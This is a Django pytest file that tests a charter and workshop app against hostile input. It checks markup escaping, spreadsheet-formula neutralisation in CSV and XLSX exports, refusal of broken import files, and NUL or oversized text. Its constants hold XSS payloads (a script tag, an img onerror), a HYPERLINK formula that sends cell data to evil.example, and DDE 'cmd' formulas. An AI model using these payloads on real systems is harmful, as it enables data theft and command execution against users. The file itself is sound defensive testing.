"""Hostile input through HTTP: markup, spreadsheet formulas, broken files, huge and NUL text.

Fast and unmarked (part of `make test`); the Schemathesis run beside it is `make test-fuzz`.

- Markup in answers, principle statements, charter titles and cells is kept as text:
  pages escape it and the PDF, DOCX, Markdown and JSON exports hold it as written, with
  no tag that a browser or a Markdown renderer would run.
- Text that a spreadsheet would run as a formula gets a leading `'` in every CSV and is
  a quoted string cell in every XLSX.
- A broken or oddly encoded import file gets a message in the reader's language, and
  changes nothing.
- 100,000 characters or a NUL in any text field is a 400 with a message, never a 500
  (PostgreSQL cannot store a NUL at all, so it must never reach the database).
"""

import csv
import datetime
import io
import json
import subprocess
from collections.abc import Callable
from typing import Any

import docx
import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from conftest import World, make_user, with_url_codes
from vogter.accounts.models import User
from vogter.api.tests.test_tenant_isolation import _round, _state
from vogter.charters.actions import adoption as adoption_actions
from vogter.charters.actions import drafts as draft_actions
from vogter.charters.actions import editing as editing_actions
from vogter.charters.actions import sharing as sharing_actions
from vogter.charters.actions import signatures as signature_actions
from vogter.charters.models import Charter
from vogter.organisations.actions import invitations as invitation_actions
from vogter.organisations.actions import joining as joining_actions
from vogter.organisations.actions import memberships as membership_actions
from vogter.organisations.actions import organisations as organisation_actions
from vogter.organisations.actions import units as unit_actions
from vogter.organisations.models import Role
from vogter.principles.actions import principles as principle_actions
from vogter.principles.actions import themes as theme_actions
from vogter.principles.themes import theme_entries
from vogter.reflection.actions import checkins as checkin_actions
from vogter.reflection.actions import rounds as round_actions
from vogter.reflection.models import Round
from vogter.reflection.rounds import principles_of
from vogter.workshops.actions import sheets as sheet_actions
from vogter.workshops.actions import workshops as workshop_actions
from vogter.workshops.models import Entry, Sheet, Workshop

pytestmark = pytest.mark.django_db

ApiClientFor = Callable[[User], Client]  # the root conftest's api_client_for

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
MARKUP = f"{SCRIPT} {IMG} & <b>fed</b>"
# What Django's autoescape makes of MARKUP.
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; &amp; "
FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1;"Klik")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HUGE = "a" * 100_000
NUL = "før\x00efter"


def _json(client: Client, method: str, url: str, body: Any = None) -> Any:
    data = json.dumps(body) if body is not None else None
    return client.generic(method, url, data or "", content_type="application/json")


def _live_markup(html: str) -> list[str]:
    return [tag for tag in (SCRIPT, IMG, "<b>fed</b>") if tag in html]


def _pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF")
    return subprocess.run(
        ["pdftotext", "-enc", "UTF-8", "-", "-"],  # noqa: S607 - poppler-utils, as in CI
        input=data,
        capture_output=True,
        check=True,
    ).stdout.decode()


def _squash(text: str) -> str:
    """Without whitespace, nor the invisible break points and soft hyphens a PDF sets
    inside long runs and words (vogter/lib/typeset.py)."""
    return "".join(text.split()).replace("\N{ZERO WIDTH SPACE}", "").replace("\N{SOFT HYPHEN}", "")


# --- Markup is text -----------------------------------------------------------------


@pytest.fixture
def marked_up_workshop(world: World, workshop: Workshop) -> Workshop:
    """Answers with markup, then a theme, a principle and its cells with markup too."""
    for _number in range(3):
        sheet = sheet_actions.join(workshop).sheet
        sheet_actions.save_entry(sheet, "profession", MARKUP, 1)
        sheet_actions.save_entry(sheet, "q1", MARKUP, 1)
        sheet_actions.submit_sheet(sheet)
    workshop_actions.set_phase(world.fiona, workshop, "themes")
    answers = [str(e.id) for e in theme_entries(workshop, "q1")]
    theme = theme_actions.new_theme(world.fiona, workshop, "q1", MARKUP, answers)
    workshop_actions.set_phase(world.fiona, workshop, "principles")
    principle = principle_actions.create_principle(
        world.fiona,
        workshop,
        statement_da=MARKUP,
        statement_en=MARKUP,
        rationale=MARKUP,
        theme_codes=[theme.code],
        answer_ids=answers[:1],
    )
    principle_actions.set_cell(world.fiona, principle, "group", text=MARKUP, responsible=MARKUP)
    return workshop


@pytest.fixture
def marked_up_charter(world: World, marked_up_workshop: Workshop) -> Charter:
    charter = draft_actions.create_charter(
        world.fiona,
        world.havneby,
        unit=world.unit,
        title=MARKUP,
        workshops=[marked_up_workshop],
    )
    own = editing_actions.add_principle(world.fiona, charter, statement_da=MARKUP)
    editing_actions.set_cell(world.fiona, own, "unit", text=MARKUP, responsible=MARKUP)
    return charter


def test_markup_in_answers_themes_and_principles_is_escaped_on_the_pages(
    world: World, fiona_client: Client, marked_up_workshop: Workshop
) -> None:
    base = f"/o/{world.havneby.code}/workshops/{marked_up_workshop.code}"
    principle = marked_up_workshop.principles.get()
    for url in (
        f"{base}/themes/",
        f"{base}/principles/",
        f"{base}/principles/matrix/",
        f"{base}/principles/{principle.code}/",
    ):
        response = fiona_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert ESCAPED in html, url
        assert _live_markup(html) == [], url


def test_markup_in_a_charter_is_escaped_on_its_pages(
    world: World, fiona_client: Client, marked_up_charter: Charter
) -> None:
    base = f"/o/{world.havneby.code}/charters"
    token = sharing_actions.share(world.fiona, marked_up_charter)
    for client, url in (
        (fiona_client, f"{base}/"),
        (fiona_client, f"{base}/{marked_up_charter.code}/"),
        (Client(), f"/c/{token}/"),  # the read-only link, without logging in
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert ESCAPED in html, url
        assert _live_markup(html) == [], url


def test_markup_in_a_charter_is_text_in_every_export(
    world: World, api_client_for: ApiClientFor, marked_up_charter: Charter
) -> None:
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/charters/{marked_up_charter.code}/export"

    def export(fmt: str) -> bytes:
        response = fiona.get(f"{url}?format={fmt}&language=da")
        assert response.status_code == 200, (fmt, response.content[:300])
        return response.content

    assert _squash(MARKUP) in _squash(_pdf_text(export("pdf")))

    word = docx.Document(io.BytesIO(export("docx")))
    texts = [p.text for p in word.paragraphs] + [
        cell.text for table in word.tables for row in table.rows for cell in row.cells
    ]
    assert any(MARKUP in text for text in texts)

    markdown = export("md").decode()
    assert "&lt;script>alert(1)&lt;/script>" in markdown
    assert _live_markup(markdown) == []
    assert "<script" not in markdown and "<img" not in markdown

    document = json.loads(export("json"))
    assert document["title"]["da"] == MARKUP


def test_markup_in_answers_is_text_in_the_workshop_exports(
    world: World, api_client_for: ApiClientFor, marked_up_workshop: Workshop
) -> None:
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/workshops/{marked_up_workshop.code}/export"
    exported = fiona.get(url + "?format=json").json()
    assert json.dumps(exported).count(json.dumps(MARKUP)[1:-1]) >= 3
    assert MARKUP in fiona.get(url + "?format=csv").content.decode("utf-8-sig")


def test_markup_in_the_organisations_name_does_not_break_the_literacy_record(
    world: World, alice_client: Client, marked_up_charter: Charter
) -> None:
    organisation_actions.update_organisation(world.alice, world.havneby, name=MARKUP)
    response = alice_client.get(f"/o/{world.havneby.code}/ai-literacy/?format=pdf&language=da")
    assert response.status_code == 200
    assert _squash(MARKUP) in _squash(_pdf_text(response.content))
    page = alice_client.get(f"/o/{world.havneby.code}/ai-literacy/").content.decode()
    assert _live_markup(page) == []


# --- Formulas stay text -------------------------------------------------------------


def _assert_csv_neutral(text: str, *, at_least: int) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for formula in FORMULAS:
        assert formula not in cells, f"{formula} is a bare cell"
        assert sum(cell == "'" + formula for cell in cells) >= at_least, formula


def _assert_xlsx_neutral(data: bytes, *, at_least: int) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for formula in FORMULAS:
        found = [cell for cell in cells if cell.value == formula]
        assert len(found) >= at_least, formula
        for cell in found:
            assert cell.data_type == "s", f"{formula} is stored as a {cell.data_type}"
            assert cell.quotePrefix, formula


@pytest.fixture
def formula_workshop(world: World) -> Workshop:
    """A workshop whose title, unit and answers all look like formulas."""
    unit_actions.update_unit(world.alice, world.unit, name=FORMULAS[0])
    workshop = workshop_actions.create_workshop(
        world.fiona,
        world.havneby,
        unit=world.unit,
        title=FORMULAS[1],
        date=datetime.date(2026, 11, 27),
        language="da",
    )
    workshop_actions.set_phase(world.fiona, workshop, "reflect")
    for formula in FORMULAS:
        sheet = sheet_actions.join(workshop).sheet
        sheet_actions.save_entry(sheet, "profession", formula, 1)
        for key in ("use_case", "q1", "q2", "q3", "q4", "q5"):
            sheet_actions.save_entry(sheet, key, formula, 1)
        sheet_actions.submit_sheet(sheet)
    # Answers are exported once the reflection has closed (docs/workshop-exports.md).
    return workshop_actions.set_phase(world.fiona, workshop, "themes")


def test_formulas_in_answers_stay_text_in_the_workshop_exports(
    world: World, api_client_for: ApiClientFor, formula_workshop: Workshop
) -> None:
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/workshops/{formula_workshop.code}/export"
    csv_text = fiona.get(url + "?format=csv").content.decode("utf-8-sig")
    _assert_csv_neutral(csv_text, at_least=1)
    _assert_xlsx_neutral(fiona.get(url + "?format=xlsx").content, at_least=1)


def test_formulas_stay_text_in_the_literacy_record(
    world: World, alice_client: Client, formula_workshop: Workshop
) -> None:
    response = alice_client.get(f"/o/{world.havneby.code}/ai-literacy/?format=csv&language=da")
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + FORMULAS[1] in cells  # the workshop's title
    assert "'" + FORMULAS[0] in cells  # the unit's name
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.fixture
def formula_round(signatories: World, drafted_workshop: Workshop) -> Round:
    """A closed round on an adopted charter whose title, principle and free texts look
    like formulas, with enough check-ins for every figure and text to show."""
    world = signatories
    charter = draft_actions.create_charter(
        world.fiona, world.havneby, unit=world.unit, title=FORMULAS[2], workshops=[]
    )
    editing_actions.add_principle(world.fiona, charter, statement_da=FORMULAS[3])
    adoption_actions.propose(world.fiona, charter)
    signature_actions.sign(world.alice, charter, "manager")
    signature_actions.sign(world.mads, charter, "union_rep")
    adoption_actions.adopt(world.fiona, charter)
    reflection = round_actions.open_round(world.fiona, charter, event="incident")
    codes = [p["code"] for p in principles_of(reflection)]
    for number in range(6):
        person = make_user(f"kollega{number}@havneby.example")
        membership = joining_actions.accept_invitation(
            person, invitation_actions.invite(world.alice, world.havneby, role=Role.MEMBER)
        )
        membership_actions.change_membership(world.alice, membership, unit=world.unit)
        checkin_actions.check_in(
            person,
            reflection,
            principles={code: (4, "keep") for code in codes},
            aims={"productivity": 4},
            changed=FORMULAS[number % len(FORMULAS)],
        )
    yesterday = datetime.date.today() - datetime.timedelta(days=1)
    Round.objects.filter(pk=reflection.pk).update(
        opens_on=yesterday - datetime.timedelta(days=7), closes_on=yesterday
    )
    return reflection


def test_formulas_stay_text_in_the_reflection_exports(
    world: World, api_client_for: ApiClientFor, formula_round: Round
) -> None:
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/reflection/{formula_round.code}/export"
    response = fiona.get(url + "?format=csv&language=da")
    assert response.status_code == 200
    _assert_csv_neutral(response.content.decode("utf-8-sig"), at_least=1)
    _assert_xlsx_neutral(fiona.get(url + "?format=xlsx&language=da").content, at_least=1)


# --- Broken import files ------------------------------------------------------------


def _xlsx_bytes(rows: list[list[str]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


HEADER = ["workshop", "profession", "q1"]
ROW = ["AI i kommunikationen", "Redaktør", "Vi sparer tid på æ, ø og å"]


def _csv_text() -> str:
    return ";".join(HEADER) + "\r\n" + ";".join(ROW) + "\r\n"


BROKEN_FILES = {
    "truncated.xlsx": _xlsx_bytes([HEADER, ROW])[:700],
    "garbage.csv": bytes(range(256)) * 40,
    "empty.csv": b"",
    "huge.csv": b"a;b\r\n" + b"x" * (10 * 1024 * 1024),
    "old.xls": b"\xd0\xcf\x11\xe0" + b"\x00" * 600,
}
# Each broken file's message in Danish and English (from vogter/workshops/import_problems.py).
MESSAGES = {
    "truncated.xlsx": ("Excel-projektmappe", "could not be read as an Excel workbook"),
    "garbage.csv": ("kunne ikke læses", "could not be read"),
    "empty.csv": ("Filen er tom.", "The file is empty."),
    "huge.csv": ("Filen er for stor", "The file is too large"),
    "old.xls": ("Gamle Excel-filer", "Old Excel files (.xls)"),
}


@pytest.mark.parametrize("name", sorted(BROKEN_FILES))
@pytest.mark.parametrize("language", ["da", "en"])
def test_a_broken_import_file_is_refused_in_the_readers_language_and_changes_nothing(
    world: World, api_client_for: ApiClientFor, workshop: Workshop, name: str, language: str
) -> None:
    User.objects.filter(pk=world.fiona.pk).update(language=language)
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/workshops/{workshop.code}/import"
    before = _state(world), Sheet.objects.count(), Entry.objects.count()
    upload = io.BytesIO(BROKEN_FILES[name])
    upload.name = name
    response = fiona.post(url, {"file": upload})
    assert response.status_code == 400, response.content[:300]
    body = response.json()
    expected = MESSAGES[name][0 if language == "da" else 1]
    messages = [body["detail"], *(p["message"] for p in body["preview"]["errors"])]
    assert any(expected in message for message in messages), messages
    assert (_state(world), Sheet.objects.count(), Entry.objects.count()) == before


@pytest.mark.parametrize(
    ("encoding", "warns"),
    [("utf-8-sig", False), ("utf-16", False), ("cp1252", True), ("latin-1", True)],
)
def test_an_import_in_another_encoding_reads_the_letters_right_and_a_dry_run_saves_nothing(
    world: World, api_client_for: ApiClientFor, workshop: Workshop, encoding: str, warns: bool
) -> None:
    fiona = api_client_for(world.fiona)
    url = f"/api/organisations/{world.havneby.code}/workshops/{workshop.code}/import"
    upload = io.BytesIO(_csv_text().encode(encoding))
    upload.name = "paper.csv"
    before = Sheet.objects.count(), Entry.objects.count()
    response = fiona.post(url, {"file": upload, "dry_run": "true"})
    assert response.status_code == 200, response.content[:300]
    preview = response.json()["preview"]
    assert preview["errors"] == []
    assert preview["rows"][0]["answers"]["q1"] == ROW[2]
    warnings = " ".join(p["message"] for p in preview["warnings"])
    assert ("Windows-1252" in warnings) is warns
    assert (Sheet.objects.count(), Entry.objects.count()) == before


def test_the_import_page_refuses_a_broken_file_with_a_message(
    world: World, fiona_client: Client, workshop: Workshop
) -> None:
    url = f"/o/{world.havneby.code}/workshops/{workshop.code}/import/"
    upload = io.BytesIO(BROKEN_FILES["truncated.xlsx"])
    upload.name = "paper.xlsx"
    before = Sheet.objects.count(), Entry.objects.count()
    response = fiona_client.post(url, {"file": upload}, follow=True)
    assert response.status_code == 200
    assert "Excel-projektmappe" in response.content.decode()
    assert (Sheet.objects.count(), Entry.objects.count()) == before


# --- Huge text and NUL characters ---------------------------------------------------


@pytest.fixture
def scene(world: World, api_client_for: ApiClientFor, drafted_workshop: Workshop) -> dict[str, Any]:
    """Something of every kind, each in a state where its text can be changed."""
    answering = workshop_actions.create_workshop(
        world.fiona,
        world.havneby,
        unit=world.unit,
        title="Åbent værksted",
        date=datetime.date(2026, 11, 27),
        language="da",
    )
    workshop_actions.set_phase(world.fiona, answering, "reflect")
    sheet = api_client_for(world.fiona).post(
        "/api/worksheets/join", {"join_code": answering.join_code}, content_type="application/json"
    )
    charter = draft_actions.create_charter(
        world.fiona, world.havneby, unit=world.unit, title="Udkast", workshops=[drafted_workshop]
    )
    return with_url_codes(
        {
            "org": world.havneby.code,
            "unit": world.unit.code,
            "workshop": drafted_workshop.code,
            "principle": drafted_workshop.principles.first().code,  # type: ignore[union-attr]
            "charter": charter.code,
            "charter_principle": charter.principles.first().code,  # type: ignore[union-attr]
            "sheet_token": sheet.json()["token"],
            # An adopted charter with an open round (and its action 1) that Alice can check in to.
            **_round(world.alice, world.havneby, world.unit, drafted_workshop.code),
        }
    )


# (who, method, path, body): TEXT marks where the hostile text goes, `{name}` a code.
TEXT = "\N{OBJECT REPLACEMENT CHARACTER}"
FIELDS: list[tuple[str, str, str, dict[str, Any]]] = [
    ("alice", "PATCH", "/api/organisations/{org}", {"name": TEXT}),
    ("alice", "POST", "/api/organisations", {"name": TEXT}),
    ("alice", "POST", "/api/organisations/{org}/units", {"name": TEXT, "level": "group"}),
    ("alice", "PATCH", "/api/organisations/{org}/units/{unit_code}", {"name": TEXT}),
    ("alice", "POST", "/api/organisations/{org}/invitations", {"email": TEXT, "role": "member"}),
    (
        "fiona",
        "POST",
        "/api/organisations/{org}/workshops",
        {"title": TEXT, "unit": "{unit}", "date": "2026-11-27"},
    ),
    ("fiona", "PATCH", "/api/organisations/{org}/workshops/{workshop_code}", {"title": TEXT}),
    ("sheet", "PUT", "/api/worksheets/me/fields/q1", {"text": TEXT, "seq": 5}),
    (
        "fiona",
        "POST",
        "/api/organisations/{org}/workshops/{workshop_code}/principles",
        {"statement_da": TEXT},
    ),
    (
        "fiona",
        "PUT",
        "/api/organisations/{org}/workshops/{workshop_code}/principles/{principle_code}/cells/unit",
        {"text": TEXT},
    ),
    ("fiona", "POST", "/api/organisations/{org}/charters", {"title": TEXT, "unit": "{unit}"}),
    (
        "fiona",
        "POST",
        "/api/organisations/{org}/charters/{charter_code}/principles",
        {"statement_da": TEXT},
    ),
    (
        "fiona",
        "PUT",
        "/api/organisations/{org}/charters/{charter_code}/principles/{charter_principle}",
        {"rationale": TEXT},
    ),
    (
        "fiona",
        "PUT",
        "/api/organisations/{org}/charters/{charter_code}/principles/{charter_principle}/cells/unit",
        {"text": TEXT, "responsible": "Teamleder"},
    ),
    (
        "fiona",
        "POST",
        "/api/organisations/{org}/charters/{adopted_charter}/rounds",
        {"kind": "event", "event": "other", "description": TEXT},
    ),
    (
        "fiona",
        "POST",
        "/api/organisations/{org}/reflection/{round}/actions",
        {"description": TEXT, "owner": "TR"},
    ),
    (
        "fiona",
        "PUT",
        "/api/organisations/{org}/reflection/{round}/actions/1",
        {"done": True, "follow_up": TEXT},
    ),
    (
        "alice",
        "POST",
        "/api/organisations/{org}/reflection/{round}/checkin",
        {"principles": [], "changed": TEXT},
    ),
]


def _fill(value: Any, values: dict[str, str], text: str) -> Any:
    if isinstance(value, dict):
        return {k: _fill(v, values, text) for k, v in value.items()}
    if value == TEXT:
        return text
    if isinstance(value, str):
        return value.format(**values)
    return value


@pytest.mark.parametrize("text", [HUGE, NUL], ids=["100k", "nul"])
@pytest.mark.parametrize(("who", "method", "path", "body"), FIELDS, ids=[f[2] for f in FIELDS])
def test_huge_text_and_nul_are_a_400_with_a_message(
    world: World,
    api_client_for: ApiClientFor,
    scene: dict[str, Any],
    who: str,
    method: str,
    path: str,
    body: dict[str, Any],
    text: str,
) -> None:
    if who == "sheet":
        client = Client(headers={"authorization": f"Bearer {scene['sheet_token']}"})
    else:
        client = api_client_for(getattr(world, who))
    before = _state(world), Entry.objects.count()
    response = _json(client, method, path.format(**scene), _fill(body, scene, text))
    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert response.json()["detail"].strip()
    assert (_state(world), Entry.objects.count()) == before


@pytest.mark.parametrize(
    "url",
    [
        "/api/organisations/%00",
        "/api/organisations/{org}/units/a%00b",
        "/api/organisations/{org}/memberships?q=a%00b",
        "/api/organisations/{org}/charters/{charter_code}/export?format=md&version=1",
        "/api/commons/search?q=a%00b",
    ],
)
def test_nul_in_the_address_is_no_server_error(
    world: World, api_client_for: ApiClientFor, scene: dict[str, Any], url: str
) -> None:
    response = api_client_for(world.alice).get(url.format(**scene))
    assert response.status_code < 500, response.content[:300]
